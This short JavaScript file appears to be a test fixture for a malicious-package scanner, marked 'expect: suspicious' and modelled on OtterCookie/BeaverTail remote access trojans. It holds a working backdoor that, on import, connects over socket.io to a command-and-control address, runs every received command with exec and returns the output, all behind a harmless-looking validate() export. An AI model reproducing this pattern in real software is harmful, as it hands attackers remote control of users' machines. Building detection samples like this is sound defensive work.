// expect: suspicious
// source: OtterCookie / BeaverTail-family RATs (2024-2025 reports): a library module that, on import,
// connects socket.io to its C2 and runs every 'command' message with exec.
import { exec } from 'node:child_process';
import { io } from 'socket.io-client';

const socket = io('http://198.51.100.12:1224', { transports: ['websocket'] });
socket.on('command', (msg) => {
  exec(String(msg), (err, stdout) => socket.emit('message', { result: err ? err.message : stdout }));
});
export function validate(session) {
  return Boolean(session && session.id);
}
